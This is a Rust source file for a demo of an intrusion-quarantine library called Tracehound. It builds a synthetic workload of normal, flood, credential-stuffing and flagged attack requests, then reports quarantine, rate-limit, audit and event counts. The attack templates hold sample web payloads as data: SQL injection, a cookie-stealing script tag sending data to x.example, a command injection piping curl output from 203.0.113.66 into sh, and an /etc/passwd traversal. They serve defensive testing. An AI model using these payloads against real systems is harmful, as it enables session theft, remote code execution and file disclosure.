//! `tracehound demo`: a realistic mixed workload through one real `Tracehound` on its default
//! configuration. Everything printed is computed from the run: the snapshot's counters, the
//! audit log's root, and the events a subscriber received.

use std::collections::BTreeMap;
use std::io::{IsTerminal, Write};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tracehound::{Category, EventKind, Scent, Severity, Snapshot, Tracehound};

/// One request of the workload.
#[derive(Debug, Clone, Copy)]
enum Request {
    /// Ordinary browsing from one of many sources.
    Clean { source: u32, page: u32 },
    /// A client hammering one endpoint far past its quota.
    Flood { source: u32, n: u32 },
    /// An attack the upstream detector flagged; each is sent several times.
    Attack {
        pattern: usize,
        variant: u32,
        source: u32,
    },
    /// Part of a credential-stuffing burst: many distinct low-value threats.
    Burst { n: u32 },
    /// A flagged upload far over the payload limit.
    Oversized,
    /// A flagged payload nested deeper than the depth limit.
    TooDeep,
}

/// Attack templates: what the detector called them, how bad, and the payload they carry.
const ATTACKS: [(&str, Severity, &str, &str); 6] = [
    (
        "injection",
        Severity::Critical,
        "/login",
        "' OR '1'='1' -- ",
    ),
    (
        "injection",
        Severity::High,
        "/search",
        "<script>fetch('//x.example/'+document.cookie)</script>",
    ),
    (
        "injection",
        Severity::Critical,
        "/export",
        "; curl http://203.0.113.66/x | sh #",
    ),
    ("malware", Severity::High, "/upload", "UEsDBBQAAAAIA"),
    (
        "unknown",
        Severity::Medium,
        "/files",
        "../../../../etc/passwd",
    ),
    ("scanner", Severity::Low, "/.env", "GET /.env HTTP/1.1"),
];

/// A small deterministic generator (xorshift64*), so a seed always gives the same run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: u32) -> u32 {
        (self.next() % u64::from(n.max(1))) as u32
    }
}

fn workload(seed: u64, scale: u32) -> Vec<Request> {
    let mut rng = Rng(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let mut requests = Vec::new();
    for source in 0..2_000 * scale {
        for page in 0..20 {
            requests.push(Request::Clean { source, page });
        }
    }
    for source in 0..4 {
        for n in 0..1_000 * scale {
            requests.push(Request::Flood { source, n });
        }
    }
    for pattern in 0..ATTACKS.len() {
        for variant in 0..50 * scale {
            for _ in 0..3 {
                let source = rng.below(400);
                requests.push(Request::Attack {
                    pattern,
                    variant,
                    source,
                });
            }
        }
    }
    for n in 0..12_000 * scale {
        requests.push(Request::Burst { n });
    }
    requests.push(Request::Oversized);
    requests.push(Request::TooDeep);
    // Interleave everything, as real traffic would be.
    for i in (1..requests.len()).rev() {
        let j = rng.below(i as u32 + 1) as usize;
        requests.swap(i, j);
    }
    requests
}

fn http_request(method: &str, path: &str, query: Value, agent: &str, body: Value) -> Value {
    json!({
        "method": method,
        "path": path,
        "query": query,
        "headers": {"user-agent": agent, "accept": "application/json"},
        "body": body,
    })
}

fn scent(request: Request) -> Scent {
    match request {
        Request::Clean { source, page } => Scent::new(
            format!("198.51.{}.{}", source / 250, source % 250),
            http_request(
                "GET",
                "/catalog",
                json!({"page": page}),
                "Mozilla/5.0",
                Value::Null,
            ),
        ),
        Request::Flood { source, n } => Scent::new(
            format!("203.0.113.{}", 200 + source),
            http_request(
                "POST",
                "/api/quote",
                json!({}),
                "python-requests/2.31",
                json!({"n": n}),
            ),
        ),
        Request::Attack {
            pattern,
            variant,
            source,
        } => {
            let (category, severity, path, payload) = ATTACKS[pattern];
            let category = Category::custom(category).unwrap_or(Category::Unknown);
            Scent::new(
                format!("192.0.2.{}", source % 250),
                http_request(
                    "POST",
                    path,
                    json!({"v": variant}),
                    "sqlmap/1.7",
                    json!({"input": payload}),
                ),
            )
            .with_threat(category, severity)
        }
        Request::Burst { n } => {
            let category = Category::custom("credential-stuffing").unwrap_or(Category::Unknown);
            let severity = if n % 5 == 0 {
                Severity::Medium
            } else {
                Severity::Low
            };
            Scent::new(
                format!("100.64.{}.{}", (n / 10) / 250 % 250, (n / 10) % 250),
                http_request(
                    "POST",
                    "/login",
                    json!({}),
                    "okhttp/4.9",
                    json!({"user": format!("user{n}@example.com"), "password": "<redacted by adapter>"}),
                ),
            )
            .with_threat(category, severity)
        }
        Request::Oversized => Scent::new(
            "192.0.2.250",
            http_request(
                "PUT",
                "/upload",
                json!({}),
                "curl/8.4",
                json!({"blob": "A".repeat(2_000_000)}),
            ),
        )
        .with_threat(Category::Malware, Severity::High),
        Request::TooDeep => {
            let mut nested = json!("payload");
            for _ in 0..200 {
                nested = json!([nested]);
            }
            Scent::new("192.0.2.251", nested).with_threat(Category::Ddos, Severity::Medium)
        }
    }
}

/// Shows progress on standard error: a redrawn bar on a terminal, a line per tenth otherwise.
struct Progress {
    total: usize,
    terminal: bool,
    shown: usize,
}

impl Progress {
    fn new(total: usize) -> Self {
        Self {
            total,
            terminal: std::io::stderr().is_terminal(),
            shown: 0,
        }
    }

    fn update(&mut self, done: usize, snapshot: impl FnOnce() -> Snapshot) {
        let step = if self.terminal { 200 } else { 10 };
        let tick = done * step / self.total.max(1);
        if tick == self.shown && done != self.total {
            return;
        }
        self.shown = tick;
        let snap = snapshot();
        let line = format!(
            "{:>3}% {:>9} requests | quarantine {:>6} | rate limited {:>6} | audit {:>7} leaves",
            done * 100 / self.total.max(1),
            group(done as u64),
            group(snap.quarantine.count as u64),
            group(snap.outcomes.rate_limited),
            group(snap.audit.size),
        );
        let mut err = std::io::stderr();
        if self.terminal {
            let _ = write!(err, "\r{line}");
            if done == self.total {
                let _ = writeln!(err);
            }
        } else {
            let _ = writeln!(err, "{line}");
        }
    }
}

pub(crate) fn run(seed: u64, scale: u32) -> Result<(), String> {
    let tracehound = Tracehound::builder()
        .build()
        .map_err(|e| format!("cannot build tracehound: {e}"))?;
    let subscription = tracehound
        .subscribe(tracehound.config().events.max_queue)
        .map_err(|e| format!("cannot subscribe: {e}"))?;
    let listener = thread::Builder::new()
        .name("demo-events".into())
        .spawn(move || {
            let mut seen: BTreeMap<&'static str, u64> = BTreeMap::new();
            while let Some(event) = subscription.recv() {
                *seen.entry(event_name(event.kind())).or_default() += 1;
            }
            (seen, subscription.dropped())
        })
        .map_err(|e| format!("cannot start the event listener: {e}"))?;

    let requests = workload(seed, scale);
    eprintln!(
        "tracehound demo: {} requests (seed {seed}) through one Tracehound on its default configuration",
        group(requests.len() as u64)
    );
    let mut progress = Progress::new(requests.len());
    let started = Instant::now();
    let mut intercept_time = Duration::ZERO;
    for (i, request) in requests.iter().enumerate() {
        let scent = scent(*request);
        let start = Instant::now();
        tracehound.intercept(&scent);
        intercept_time += start.elapsed();
        progress.update(i + 1, || tracehound.snapshot());
    }
    let elapsed = started.elapsed();
    let snapshot = tracehound.snapshot();
    let verified = tracehound
        .list()
        .iter()
        .filter(|r| tracehound.verify_evidence(r.signature()).is_ok())
        .count();
    // Dropping the last handle closes the event stream once the listener has drained it.
    drop(tracehound);
    let (events_seen, events_lost) = listener
        .join()
        .map_err(|_| "the event listener failed".to_string())?;
    report(
        &snapshot,
        &events_seen,
        events_lost,
        verified,
        requests.len(),
        elapsed,
        intercept_time,
    );
    Ok(())
}

fn event_name(kind: &EventKind) -> &'static str {
    match kind {
        EventKind::ThreatDetected { .. } => "threat detected",
        EventKind::EvidenceQuarantined(_) => "evidence quarantined",
        EventKind::EvidenceEvicted { .. } => "evidence evicted",
        EventKind::EvidenceDropped { .. } => "evidence dropped",
        EventKind::EvidenceNeutralized { .. } => "evidence neutralized",
        EventKind::EvidencePurged { .. } => "evidence purged",
        EventKind::EvidenceReplaced { .. } => "evidence replaced",
        EventKind::EvidenceExpired { .. } => "evidence expired",
        EventKind::RateLimitExceeded { .. } => "rate limit exceeded",
        EventKind::InterceptFailed { .. } => "intercept failed",
        _ => "other",
    }
}

#[allow(clippy::too_many_arguments)] // one report, many figures
fn report(
    snap: &Snapshot,
    events: &BTreeMap<&'static str, u64>,
    events_lost: u64,
    verified: usize,
    requests: usize,
    elapsed: Duration,
    intercept_time: Duration,
) {
    let o = &snap.outcomes;
    let q = &snap.quarantine;
    let r = &snap.rate_limit;
    let a = &snap.audit;
    println!();
    println!(
        "{} requests in {:.2} s; intercept took {:.2} µs on average ({} per second of intercept time)",
        group(requests as u64),
        elapsed.as_secs_f64(),
        intercept_time.as_secs_f64() * 1e6 / requests.max(1) as f64,
        group((requests as f64 / intercept_time.as_secs_f64().max(1e-9)) as u64),
    );
    println!();
    println!("Outcomes");
    for (name, count) in [
        ("clean", o.clean),
        ("rate limited", o.rate_limited),
        ("payload too large", o.payload_too_large),
        ("unencodable", o.unencodable),
        ("ignored (known threat)", o.ignored),
        ("quarantined", o.quarantined),
        ("dropped (lowest priority)", o.dropped),
        ("error", o.error),
    ] {
        println!("  {name:<26}{:>10}", group(count));
    }
    println!();
    println!(
        "Quarantine  {} / {} entries, {} / {} bytes (fill {:.0} %), {} verified intact",
        group(q.count as u64),
        group(q.max_count as u64),
        group(q.bytes as u64),
        group(q.max_bytes as u64),
        q.fill_ratio * 100.0,
        group(verified as u64),
    );
    println!(
        "  critical {}   high {}   medium {}   low {}",
        group(q.by_severity.critical as u64),
        group(q.by_severity.high as u64),
        group(q.by_severity.medium as u64),
        group(q.by_severity.low as u64),
    );
    println!();
    println!(
        "Rate limiter  {} sources tracked, {} blocked now, {} forgotten at the cap of {}",
        group(r.tracked_keys as u64),
        group(r.blocked_keys as u64),
        group(r.evicted_keys),
        group(r.max_keys as u64),
    );
    println!();
    println!("Audit log  {} leaves", group(a.size));
    println!("  root {}", a.root);
    let rec = &a.records;
    println!(
        "  quarantined {}   evicted {}   dropped {}   neutralized {}   purged {}   replaced {}   expired {}",
        group(rec.quarantined),
        group(rec.evicted),
        group(rec.dropped),
        group(rec.neutralized),
        group(rec.purged),
        group(rec.replaced),
        group(rec.expired),
    );
    println!();
    let seen: u64 = events.values().sum();
    println!(
        "Events  {} received of {} published, {} lost to a full queue",
        group(seen),
        group(snap.events.published),
        group(events_lost),
    );
    for (name, count) in events {
        println!("  {name:<26}{:>10}", group(*count));
    }
}

/// `1234567` as `1,234,567`.
fn group(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn digits_are_grouped() {
        assert_eq!(group(0), "0");
        assert_eq!(group(999), "999");
        assert_eq!(group(1000), "1,000");
        assert_eq!(group(1234567), "1,234,567");
    }

    #[test]
    fn workload_is_deterministic_and_mixed() {
        let a = workload(7, 1);
        let b = workload(7, 1);
        assert_eq!(format!("{a:?}"), format!("{b:?}"));
        assert_ne!(format!("{a:?}"), format!("{:?}", workload(8, 1)));
        // Interleaved: the first thousand requests hold several kinds.
        let kinds: std::collections::HashSet<_> =
            a[..1000].iter().map(std::mem::discriminant).collect();
        assert!(kinds.len() >= 3);
    }
}
